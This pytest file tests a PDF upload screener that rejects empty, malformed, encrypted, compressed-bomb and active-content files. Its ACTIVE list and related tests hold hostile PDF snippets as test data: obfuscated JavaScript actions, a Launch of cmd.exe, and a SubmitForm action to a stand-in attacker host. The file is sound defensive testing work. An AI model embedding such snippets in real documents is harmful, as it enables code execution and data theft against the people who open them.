"""What is taken for a PDF that may travel."""

import zlib
from io import BytesIO

import pytest
from pypdf import PdfReader

from scheduler.rules import pdf
from scheduler.rules.pdf import fault_of, refuse_unfit
from tests.papers import make_pdf, packed
from vocabulary.refusals import Refusal

ACTIVE = [
    b"<< /S /JavaScript /JS (app.alert(1)) >>",
    b"<< /S /J#61vaScript /JS 7 0 R >>",
    b"<< /S /#4A#61vaScript >>",
    b"<< /S /Launch /F (cmd.exe) >>",
    b"<< /Type /EmbeddedFile /Length 0 >>",
    b"<< /Names << /EmbeddedFiles 9 0 R >> >>",
    b"<< /Subtype /RichMedia >>",
    b"<< /S /SubmitForm /F (https://evil.example) >>",
    b"<< /S /ImportData >>",
    b"<< /S /GoToE >>",
    b"<< /XFA [(template) 5 0 R] >>",
]


def test_what_the_tests_make_is_a_pdf_to_another_reader_too() -> None:
    assert len(PdfReader(BytesIO(make_pdf())).pages) == 1


def test_a_whole_pdf_may_travel() -> None:
    assert fault_of(make_pdf()) is None
    refuse_unfit(make_pdf(), name="letter.pdf", field="signed_letter")


@pytest.mark.parametrize("content", [b"", b" \r\n", b"\x00" * 0])
def test_an_empty_file_is_said_to_be_empty(content: bytes) -> None:
    assert fault_of(content) == pdf.EMPTY


@pytest.mark.parametrize(
    "content",
    [
        b"MZ\x90\x00",
        b"PK\x03\x04 a letter in Word",
        b"<html>%PDF-1.7",
        b"\n" + make_pdf(),
        b"%!PS-Adobe-3.0\n%%EOF",
        b"\xef\xbb\xbf" + make_pdf(),
    ],
)
def test_what_does_not_begin_as_a_pdf_is_none(content: bytes) -> None:
    assert fault_of(content) == pdf.NO_PDF


@pytest.mark.parametrize("content", [make_pdf()[:-40], b"%PDF-1.7\n%%EOF", make_pdf() + b"x" * 2000])
def test_a_pdf_without_its_end_is_cut_off(content: bytes) -> None:
    assert fault_of(content) == pdf.CUT_OFF


@pytest.mark.parametrize("trailer", [b"/Encrypt 5 0 R", b"/#45ncrypt<< /V 1 >>", b"/Encrypt\n5 0 R"])
def test_a_locked_pdf_is_said_to_be_locked(trailer: bytes) -> None:
    assert fault_of(make_pdf(trailer=trailer)) == pdf.LOCKED


@pytest.mark.parametrize("body", ACTIVE)
def test_a_pdf_that_does_more_than_be_read_does_not_travel(body: bytes) -> None:
    assert fault_of(make_pdf(extra=[body])) == pdf.RUNS


@pytest.mark.parametrize("body", ACTIVE[:4])
@pytest.mark.parametrize("name", [b"ObjStm", b"Obj#53tm"])
def test_nothing_hides_in_a_packed_part(body: bytes, name: bytes) -> None:
    assert fault_of(make_pdf(extra=[packed(body, name=name)])) == pdf.RUNS


@pytest.mark.parametrize("body", [b"<< /Title (JavaScript for everybody) >>", b"<< /LaunchPad 1 /JavaScripts 2 >>"])
def test_words_that_only_sound_alike_do_no_harm(body: bytes) -> None:
    assert fault_of(make_pdf(extra=[body, packed(body)])) is None


def test_a_form_and_a_signature_and_an_opening_view_may_travel() -> None:
    signed = b"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <3082> >>"
    opening = b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> /AcroForm << /SigFlags 3 >> >>"
    assert fault_of(make_pdf(extra=[signed, opening])) is None


def test_pictures_that_look_like_anything_do_no_harm() -> None:
    picture = b"<< /Filter /FlateDecode >>\nstream\n" + zlib.compress(b"/JavaScript ") + b"\nendstream"
    assert fault_of(make_pdf(extra=[picture])) is None


@pytest.mark.parametrize(
    "body",
    [
        packed(b"<< >>", dictionary=b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
        b"<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nwhatever\nendstream",
        b"<< /Type /ObjStm /#46ilter /LZWDecode >>\nstream\nwhatever\nendstream",
        packed(bytes(range(256)) * 4).replace(b"\nendstream", b"")[:-60],
        packed(b"\x00" * (pdf.MOST_UNPACKED + 1)),
    ],
    ids=["predictor", "another packing", "another packing in disguise", "cut off", "bomb"],
)
def test_what_cannot_be_unpacked_cannot_be_checked(body: bytes) -> None:
    assert fault_of(make_pdf(extra=[body])) == pdf.UNREADABLE


def test_several_packed_parts_share_the_room_for_one_file() -> None:
    half = packed(b"\x00" * (pdf.MOST_UNPACKED // 2))
    assert fault_of(make_pdf(extra=[half])) is None
    assert fault_of(make_pdf(extra=[half, half, half])) == pdf.UNREADABLE


def test_a_part_that_is_not_packed_is_read_as_it_lies_there() -> None:
    plain = b"<< /Type /ObjStm /N 1 >>\nstream\n<< /Title (x) >>\nendstream"
    assert fault_of(make_pdf(extra=[plain])) is None
    assert fault_of(make_pdf(extra=[plain.replace(b"/Title", b"/Launch")])) == pdf.RUNS


def test_the_refusal_names_the_file_and_the_field() -> None:
    with pytest.raises(Refusal, match=r"“memo\.pdf” is not a PDF") as caught:
        refuse_unfit(b"MZ", name="memo.pdf", field="enclosures")
    assert caught.value.field == "enclosures"
